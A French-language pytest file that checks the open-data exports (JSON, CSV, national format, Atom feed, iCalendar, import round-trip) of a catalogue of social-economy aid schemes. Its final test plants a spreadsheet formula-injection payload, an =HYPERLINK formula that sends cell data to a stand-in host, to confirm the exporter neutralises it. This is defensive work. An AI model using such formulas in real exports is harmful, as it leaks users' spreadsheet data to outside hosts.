"""Données ouvertes : chaque fichier publié est relu avec un vrai lecteur (json, csv, frictionless, icalendar, feedparser)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import uuid
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import feedparser
import icalendar
import pytest
from frictionless import Resource, Schema, validate

from conftest import DATE_TESTS
from test_exports_valeurs import ENTETE_CSV
from generateur.exports import abonnements
from generateur import cli
from generateur.exports import donnees_ouvertes
from generateur.exports import donnees as exports
from generateur.lecture.catalogue import RACINE, charger_catalogue
from generateur.lecture.chargement import charger
from generateur.exports.format_national import COLONNES, ESPACE_UUID, SCHEMA_NATIONAL
from generateur.exports.importation import ENTETE, MARQUE, importer
from generateur.exports.schemas_json import SCHEMAS, texte_schema
from generateur.regles.statut import statut, statut_general
from schema import BESOINS, Aide

ADRESSE = "https://aides-ess.github.io/aides-ess/"


@pytest.fixture(scope="session")
def donnees(site_construit) -> Path:
    return site_construit / "donnees"


@pytest.fixture(scope="session")
def catalogue_construit(site_construit):
    """Le catalogue de la copie du dépôt qui a servi à construire le site (il a pu changer depuis dans le vrai)."""
    return charger_catalogue(site_construit.parent)


def _page_existe(site: Path, url: str) -> bool:
    assert url.startswith(ADRESSE), url
    return (site / url.removeprefix(ADRESSE) / "index.html").is_file()


def _lignes_nationales(texte: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(texte)))


def test_aides_json_complet_et_versionne(donnees, catalogue_construit, site_construit):
    contenu = json.loads((donnees / "aides.json").read_text(encoding="utf-8"))
    assert contenu["version"] == exports.VERSION_FORMAT
    assert contenu["date_generation"] == DATE_TESTS.isoformat()
    assert contenu["licence"]["spdx"] == "etalab-2.0"
    assert contenu["nombre_aides"] == len(contenu["aides"]) == len(catalogue_construit.aides)
    assert {o["identifiant"] for o in contenu["organisations"]} == set(catalogue_construit.organisations)
    for brute in contenu["aides"]:
        calcule, url = brute.pop("statut"), brute.pop("url")
        aide = catalogue_construit.aides[brute["identifiant"]]
        assert "notes_internes" not in brute, "les notes pour les relecteurs ne sont jamais publiées"
        assert Aide.model_validate(brute) == aide.model_copy(update={"notes_internes": None}), "tous les champs publiés, sans perte"
        assert calcule["code"] == statut_general(aide, DATE_TESTS, catalogue_construit.territoires).code
        assert _page_existe(site_construit, url)


def test_aides_csv_s_ouvre_dans_un_tableur(donnees, catalogue_construit):
    octets = (donnees / "aides.csv").read_bytes()
    assert octets.startswith(b"\xef\xbb\xbf"), "BOM UTF-8 : sans lui, Excel lit les accents de travers"
    lignes = list(csv.DictReader(io.StringIO(octets.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(lignes) == len(catalogue_construit.aides)
    assert list(lignes[0]) == ENTETE_CSV, "l'en-tête écrit à la main (les réutilisateurs en dépendent)"
    for ligne in lignes:
        aide = catalogue_construit.aides[ligne["identifiant"]]
        assert ligne["titre"] == aide.titre
        assert ligne["statut"] == statut_general(aide, DATE_TESTS, catalogue_construit.territoires).libelle
        assert ligne["derniere_verification"] == aide.derniere_verification.isoformat()
        if aide.montant and aide.montant.max is not None:
            assert float(ligne["montant_max"].replace(",", ".")) == aide.montant.max
        assert ligne["montant"] and "ci-dessous" not in ligne["montant"]
    insertion = next(l for l in lignes if l["identifiant"] == "appel-a-projets-insertion-nord")
    assert insertion["montant"].startswith("Montant non publié") and insertion["budget_total"] == "63000000"


def test_format_national_valide_contre_le_schema_officiel(donnees, catalogue_construit):
    schema = Schema.from_descriptor(json.loads(SCHEMA_NATIONAL.read_text(encoding="utf-8")))
    rapport = validate(Resource(path="dispositif-aide.csv", basepath=str(donnees), schema=schema))
    assert rapport.valid, rapport.flatten(["rowNumber", "fieldName", "message"])[:10]
    lignes = _lignes_nationales((donnees / "dispositif-aide.csv").read_text(encoding="utf-8"))
    publiees = _publiees_au_format_national(catalogue_construit)
    assert len(lignes) == len(publiees)
    attendus = {str(uuid.uuid5(ESPACE_UUID, i)) for i in publiees}
    assert {l["id"] for l in lignes} == attendus, "identifiants stables : UUID v5 de l'identifiant"
    for ligne in lignes:
        for porteur in json.loads(ligne["porteurs"]):
            assert porteur["nom"] and set(porteur["roles"]) <= {"financeur", "instructeur", "diffuseur"}


def _publiees_au_format_national(catalogue):
    """Toutes les aides, sauf les closes dont on ne connaît ni date de fin ni date limite (règle écrite à la main)."""
    def sans_date(aide):
        cal = aide.calendrier
        return bool(cal.fermeture) and not cal.fermeture.date and not any(s.date_limite or s.ouverture for s in cal.sessions)
    return {i for i, a in catalogue.aides.items() if not sans_date(a)}


def test_format_national_dit_honnetement_la_situation(donnees, catalogue_construit):
    """Une aide close a toujours sa date de clôture ; une aide suspendue est close la veille de sa suspension ;
    une aide à confirmer le dit en tête de description ; aucune n'y paraît ouverte."""
    lignes = {l["id"]: l for l in _lignes_nationales((donnees / "dispositif-aide.csv").read_text(encoding="utf-8"))}
    vus = set()
    for identifiant, aide in catalogue_construit.aides.items():
        ligne = lignes.get(str(uuid.uuid5(ESPACE_UUID, identifiant)))
        if ligne is None:
            continue
        s = statut_general(aide, DATE_TESTS, catalogue_construit.territoires)
        vus.add(s.code)
        fin = dt.datetime.fromisoformat(ligne["date_cloture"]) if ligne["date_cloture"] else None
        if s.code == "close":
            assert fin is not None and fin.date() < DATE_TESTS, identifiant
            assert ligne["description"].startswith("Situation : close."), identifiant
        elif s.code == "suspendue":
            assert fin is not None and fin.date() == s.depuis - dt.timedelta(days=1), identifiant
            assert ligne["description"].startswith(f"Situation : suspendue depuis le {s.depuis.isoformat()}."), identifiant
        elif s.code == "a-confirmer":
            assert ligne["description"].startswith("Situation : à confirmer."), identifiant
        else:
            assert ligne["description"].startswith("Situation : en cours."), identifiant
    assert {"close", "suspendue", "a-confirmer", "permanente"} <= vus


def test_schema_national_recopie_a_l_identique():
    partage = RACINE.parent / "shared" / "normes" / SCHEMA_NATIONAL.name
    if not partage.exists():
        pytest.skip("copie partagée du schéma absente sur cette machine")
    assert json.loads(SCHEMA_NATIONAL.read_text(encoding="utf-8")) == json.loads(partage.read_text(encoding="utf-8"))


def test_flux_atom_lisible(donnees, catalogue_construit, site_construit):
    flux = feedparser.parse((donnees / abonnements.FLUX).read_bytes())
    assert not flux.bozo, flux.get("bozo_exception")
    assert flux.version == "atom10"
    assert len(flux.entries) == len(catalogue_construit.aides)
    identifiants = [e.id for e in flux.entries]
    assert len(set(identifiants)) == len(identifiants)
    for entree in flux.entries:
        assert _page_existe(site_construit, entree.link)
        aide = catalogue_construit.aides[entree.link.rstrip("/").rsplit("/", 1)[1]]
        assert dt.date(*entree.updated_parsed[:3]) <= aide.derniere_verification
        assert entree.summary == aide.resume
        s = statut_general(aide, DATE_TESTS, catalogue_construit.territoires)
        assert [t.term for t in entree.tags if t.term.startswith("statut:")] == [f"statut:{s.code}"]
    dates = [e.updated_parsed for e in flux.entries]
    assert dates == sorted(dates, reverse=True), "les plus récentes d'abord"


def test_flux_et_calendriers_ne_dependent_que_des_fiches(donnees, catalogue_construit, tmp_path):
    """Reconstruire un autre jour ne change ni le flux ni les calendriers : pas de fausses nouveautés."""
    exports.ecrire_exports(catalogue_construit, tmp_path, DATE_TESTS + dt.timedelta(days=45), ADRESSE)
    for nom in abonnements.fichiers(catalogue_construit, ADRESSE, DATE_TESTS):
        if nom == abonnements.FLUX:
            continue  # le flux dit le statut du jour de chaque aide
        assert (tmp_path / "donnees" / nom).read_bytes() == (donnees / nom).read_bytes(), nom


def _evenements(chemin: Path) -> list:
    calendrier = icalendar.Calendar.from_ical(chemin.read_bytes())
    return list(calendrier.walk("VEVENT"))


def test_calendriers_des_dates_limites(donnees, catalogue_construit, site_construit):
    def apres_l_arret(aide, session):  # on ne peut plus déposer après une suspension ou une fin
        situation, fermeture = aide.situation, aide.calendrier.fermeture
        if situation and situation.etat == "suspendue" and session.date_limite >= situation.depuis.debut:
            return True
        return bool(fermeture and fermeture.date and session.date_limite > fermeture.date)

    sessions = [(a, s) for a in catalogue_construit.aides.values() for s in a.calendrier.sessions
                if s.date_limite and not apres_l_arret(a, s)]
    tous = _evenements(donnees / abonnements.CALENDRIER_COMPLET)
    assert len(tous) == len(sessions), "un événement par date limite où l'on pouvait déposer"
    uids = {str(e["UID"]) for e in tous}
    assert len(uids) == len(tous), "UID uniques"
    for evenement in tous:
        assert _page_existe(site_construit, str(evenement["URL"]))
        assert str(evenement["URL"]) in str(evenement["DESCRIPTION"])
        assert isinstance(evenement.decoded("DTSTART"), dt.date)
        assert list(evenement.walk("VALARM")), "rappel avant la date limite"
    limites = sorted(s.date_limite for _, s in sessions)
    assert sorted(e.decoded("DTSTART") for e in tous) == limites

    territoires = catalogue_construit.territoires
    for departement in territoires.departements:
        chemin = donnees / abonnements.chemin_calendrier_departement(territoires.nom(departement))
        recus = {str(e["UID"]) for e in _evenements(chemin)}
        assert recus <= uids
        for aide, session in sessions:
            attendu = territoires.couvre(aide.territoire.codes, aide.territoire.exclusions, departement) and (
                not session.territoires or any(departement in territoires.departements_de(c) for c in session.territoires)
            )
            assert (abonnements.uid_echeance(aide, session) in recus) == attendu, (departement, aide.identifiant)
    for besoin in BESOINS:
        recus = {str(e["UID"]) for e in _evenements(donnees / abonnements.chemin_calendrier_besoin(besoin.valeur))}
        assert recus == {abonnements.uid_echeance(a, s) for a, s in sessions if besoin.valeur in a.besoins}


def _liens(html: str, depuis: str) -> set[str]:
    import re

    return {urljoin(depuis, h) for h in re.findall(r'href="([^"#]+)', html)}


def test_flux_et_calendriers_lies_depuis_le_site(site_construit, catalogue_construit):
    base = "http://exemple.test/"
    accueil = _liens((site_construit / "index.html").read_text(encoding="utf-8"), base)
    assert base + "donnees/nouveautes.xml" in accueil
    assert base + "donnees/" + abonnements.CALENDRIER_COMPLET in accueil
    assert base + "donnees/" in accueil
    nord = "themes/departements/nord/"
    liens = _liens((site_construit / nord / "index.html").read_text(encoding="utf-8"), base + nord)
    calendrier = base + "donnees/" + abonnements.chemin_calendrier_departement("Nord")
    assert calendrier in liens and (site_construit / urlsplit(calendrier).path.lstrip("/")).is_file()
    page = (site_construit / "donnees" / "index.html").read_text(encoding="utf-8")
    for lien in _liens(page, base + "donnees/"):
        chemin = urlsplit(lien).path.lstrip("/")
        if lien.startswith(base + "donnees/") and not chemin.endswith("/"):
            assert (site_construit / chemin).is_file(), lien


def test_schemas_json_et_page_a_jour():
    """docs/donnees/ est écrit par `python -m generateur schema` : relancez-le si ce test échoue."""
    for nom, (modele, titre) in SCHEMAS.items():
        assert (RACINE / "docs" / "donnees" / nom).read_text(encoding="utf-8") == texte_schema(modele, titre), nom
    page = (RACINE / donnees_ouvertes.FICHIER).read_text(encoding="utf-8")
    assert donnees_ouvertes.mettre_a_jour(page) == page


def test_schemas_json_publies(site_construit):
    for nom in SCHEMAS:
        assert json.loads((site_construit / "donnees" / nom).read_text(encoding="utf-8"))["$schema"]


@pytest.fixture(scope="session")
def depot_importe(tmp_path_factory, site_construit):
    """Un dépôt sans fiches, avec les organisations et référentiels, où l'on importe notre propre export
    directement dans aides/ (comme un relecteur qui y déplace les brouillons)."""
    racine = tmp_path_factory.mktemp("import")
    for dossier in ("aides/organisations", "aides/referentiel"):
        shutil.copytree(site_construit.parent / dossier, racine / dossier)
    shutil.copy2(site_construit.parent / "mkdocs.yml", racine / "mkdocs.yml")
    rapport = importer(site_construit / "donnees" / "dispositif-aide.csv", racine, racine / "aides")
    return racine, rapport


def test_export_puis_import_redonne_les_memes_aides(depot_importe, donnees, catalogue_construit):
    racine, rapport = depot_importe
    assert (rapport.refusees, rapport.invalides, rapport.avertissements) == ([], {}, [])
    assert rapport.code_de_sortie == 0
    assert len(rapport.brouillons) == len(_publiees_au_format_national(catalogue_construit))
    importe = charger_catalogue(racine)  # fiches valides, organisations et territoires connus
    for chemin in rapport.brouillons:
        texte = chemin.read_text(encoding="utf-8")
        assert texte.startswith(ENTETE)
        assert not re.search(r"(:|-) [&*][A-Za-z0-9_-]+\s*$", texte, re.M), "ni ancre ni alias"
        donnees_fiche, _ = charger(chemin)
        assert donnees_fiche["a_confirmer"][0] == MARQUE
    # Tout ce que le format national porte revient à l'identique, identifiant national compris.
    avant = {l["id"]: l for l in _lignes_nationales((donnees / "dispositif-aide.csv").read_text(encoding="utf-8"))}
    apres = {l["id"]: l for l in _lignes_nationales(exports.texte_national(importe, DATE_TESTS, ADRESSE))}
    assert set(avant) == set(apres)
    for identifiant, ligne in avant.items():
        assert ligne == apres[identifiant], identifiant
    assert set(importe.aides) == _publiees_au_format_national(catalogue_construit), "mêmes identifiants, mêmes pages"
    for identifiant, copie in importe.aides.items():
        aide = catalogue_construit.aides[identifiant]
        territoires = catalogue_construit.territoires
        assert statut_general(copie, DATE_TESTS, territoires).code == statut_general(aide, DATE_TESTS, territoires).code, identifiant
        assert copie.description == aide.description
        assert (copie.types, copie.besoins) == (aide.types, aide.besoins), identifiant
        assert copie.territoire.codes == aide.territoire.codes
        assert copie.beneficiaires.structures == aide.beneficiaires.structures
        assert copie.beneficiaires.exclus == aide.beneficiaires.exclus
        assert [p.organisation for p in copie.porteurs] == [p.organisation for p in aide.porteurs]
        assert copie.derniere_verification == aide.derniere_verification


def test_import_deux_fois_ne_change_rien(depot_importe, site_construit):
    racine, premier = depot_importe
    avant = {p: p.read_bytes() for p in sorted((racine / "aides").rglob("*")) if p.is_file()}
    second = importer(site_construit / "donnees" / "dispositif-aide.csv", racine, racine / "aides")
    assert second.brouillons == [] and second.mises_a_jour == {}
    assert len(second.inchangees) == len(premier.brouillons)
    assert {p: p.read_bytes() for p in sorted((racine / "aides").rglob("*")) if p.is_file()} == avant


def test_import_signale_ce_qu_il_ne_peut_pas_reprendre(tmp_path, capsys):
    fichier = tmp_path / "externe.csv"
    lignes = [
        {
            "id": str(uuid.uuid4()), "titre": "Fonds Exemple (FEX)", "promesse": "Financez votre projet local",
            "description": "Un fonds d'exemple.", "eligibilite": "• Avoir un projet.\n• Exclus : Les partis politiques.",
            "types_aides": "prêt|étude|coup de pouce",
            "porteurs": "[{ nom: 'Agence inconnue', siren: '123456789', roles: [ 'instructeur', 'mécène' ]}]",
            "programmes_parents": "Fonds vert 2024", "url_source": "https://exemple.fr/fonds", "cibles": "associations|professionnels",
            "eligibilite_geographique": "REG-32|ZZ-1", "eligibilite_geographique_exclusions": "",
            "date_ouverture": "2026-01-05T08:00:00Z", "date_cloture": "2026-03-31T21:59:59Z", "date_mise_a_jour": "2026-02-01T10:00:00Z",
        },
        {**{c: "" for c in COLONNES}, "id": str(uuid.uuid4()), "titre": "Sans rien"},
    ]
    with open(fichier, "w", encoding="utf-8", newline="") as f:
        ecrivain = csv.DictWriter(f, fieldnames=COLONNES)
        ecrivain.writeheader()
        ecrivain.writerows(lignes)
    sortie = tmp_path / "aides"
    code = cli.main(["--racine", str(RACINE), "importer", str(fichier), "--dossier", str(sortie)])
    assert code == 1, "une ligne refusée et un brouillon incomplet"
    messages = capsys.readouterr()
    assert "1 brouillon(s) écrit(s) dont 1 incomplet(s)" in messages.out
    for attendu in ("organisation inconnue « Agence inconnue »", "type d'aide « coup de pouce »", "rôle « mécène »",
                    "territoire « ZZ-1 »", "ligne 3 « Sans rien », colonne description, porteurs, eligibilite_geographique, url_source : ligne non importée"):
        assert attendu in messages.err
    aide, _ = charger(sortie / "fex.yaml")
    assert (aide["sigle"], aide["nom_officiel"], aide["titre"]) == ("FEX", "Fonds Exemple", "Financez votre projet local")
    assert aide["types"] == ["pret", "accompagnement"]
    assert aide["beneficiaires"]["structures"] == ["association"], "« professionnels » ne dit pas lesquels : à confirmer"
    assert aide["beneficiaires"]["conditions"] == ["Avoir un projet."] and aide["beneficiaires"]["exclus"] == ["Les partis politiques."]
    assert aide["calendrier"]["sessions"][0]["ouverture"] == "2026-01-05"
    assert aide["calendrier"]["sessions"][0]["date_limite"] == "2026-03-31", "23 h 59 à Paris"
    assert aide["porteurs"][0]["roles"] == ["instructeur"]
    assert aide["a_confirmer"][0] == MARQUE
    assert any("Fonds vert 2024" in note for note in aide["a_confirmer"])
    assert (sortie / "organisations" / "agence-inconnue.yaml").is_file()


def test_csv_ne_contient_pas_de_formule():
    assert exports._sans_formule("=HYPERLINK(\"https://exemple.fr\")") == "'=HYPERLINK(\"https://exemple.fr\")"
    assert exports._sans_formule("Une aide") == "Une aide"


def test_format_national_sans_formule(catalogue):
    """Un titre, un nom officiel ou une description qui commencent par = + - @ ne deviennent pas des formules."""
    import dataclasses

    premiere = sorted(catalogue.aides)[0]
    piege = catalogue.aides[premiere].model_copy(update={
        "nom_officiel": '=HYPERLINK("https://piege.example/?d="&A2,"Mettre à jour")', "sigle": None,
        "description": "@SOMME(A1:A9)", "titre": "+33 appelez-nous",
    })
    petit = dataclasses.replace(catalogue, aides={premiere: piege})
    ligne = next(csv.DictReader(io.StringIO(exports.texte_national(petit, DATE_TESTS))))
    assert ligne["titre"] == "'=HYPERLINK(\"https://piege.example/?d=\"&A2,\"Mettre à jour\")"
    assert ligne["promesse"] == "'+33 appelez-nous"
    assert not ligne["description"].startswith(("=", "+", "-", "@"))
